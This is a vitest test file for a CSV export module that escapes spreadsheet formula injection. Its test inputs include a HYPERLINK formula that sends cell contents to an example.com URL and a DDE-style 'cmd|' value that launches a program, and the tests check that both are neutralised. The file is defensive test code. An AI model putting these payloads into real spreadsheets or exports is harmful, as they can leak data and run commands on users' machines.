import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { fc } from '../../../../../scripts/testing/random.mjs';
import { csvLine, escapeFormula, unescapeFormula } from './csv.js';

describe('a CSV row', () => {
  it('quotes every cell and ends with CRLF', () => {
    expect(csvLine(['a', '', 'say "hi", Ada', 'two\nlines'])).toBe(
      '"a","","say ""hi"", Ada","two\nlines"\r\n',
    );
  });

  it.each([
    '=1+1',
    '=HYPERLINK("http://example.com/?"&A1,"click")',
    '+1',
    "-2+3+cmd|' /C calc'!A0",
    '@SUM(A1:A9)',
    '＝1+1',
    '＠SUM(1)',
  ])('escapes the formula %j', (cell) => {
    expect(escapeFormula(cell)).toBe(`'${cell}`);
  });

  it.each([
    ['x;=1+1', "x;'=1+1"],
    ['x,=1+1', "x,'=1+1"],
    ['x\t=1+1', "x\t'=1+1"],
    ['x|=1+1', "x|'=1+1"],
    ['x\n=1+1', "x\n'=1+1"],
    ['x; "=1+1', `x;' "=1+1`],
    ['\t=1+1', "'\t'=1+1"],
    ['\r=1+1', "'\r'=1+1"],
  ])('escapes the formula in %j, which another delimiter would bring out', (cell, escaped) => {
    expect(escapeFormula(cell)).toBe(escaped);
    expect(unescapeFormula(escaped)).toBe(cell);
  });

  it.each([',', ';', '\t'])('is not a formula where %j is the separator', (delimiter) => {
    const cells = ['=1', ';=1', ',+1', '\t@x', 'a;"=1"', "';=1", ';;=1', ',\t;-1', '\n=1', '"=1'];
    for (const cell of cells) {
      const options = { delimiter, relax_quotes: true, relax_column_count: true };
      for (const found of (parse(csvLine(['x', cell, cell]), options) as string[][]).flat()) {
        expect(found).not.toMatch(/^[ "]*[=+\-@]/);
      }
    }
  });

  it.each(['Ada', "'tis", 'a=b', '1-2', "o'neil@example.com", ''])('does not change %j', (cell) => {
    expect(escapeFormula(cell)).toBe(cell);
  });

  it('reads back unchanged, whatever the cells contain', () => {
    const tricky = fc.string({ unit: 'binary' }).map((text) => text.replaceAll('\ufeff', ''));
    fc.assert(
      fc.property(tricky, tricky, (a, b) => {
        const [row] = parse(csvLine(['x', a, b]), { record_delimiter: '\r\n' }) as string[][];
        expect(row?.slice(1).map(unescapeFormula)).toEqual([a, b]);
      }),
    );
    const pieces = fc.constantFrom(...[...',;\t|\n\r =+-@\'"ax']);
    fc.assert(
      fc.property(fc.array(pieces), (characters) => {
        const cell = characters.join('');
        expect(unescapeFormula(escapeFormula(cell))).toBe(cell);
      }),
    );
    for (const cell of ["'=1", "''=1", "'", "''", "'a"])
      expect(unescapeFormula(escapeFormula(cell))).toBe(cell);
  });
});
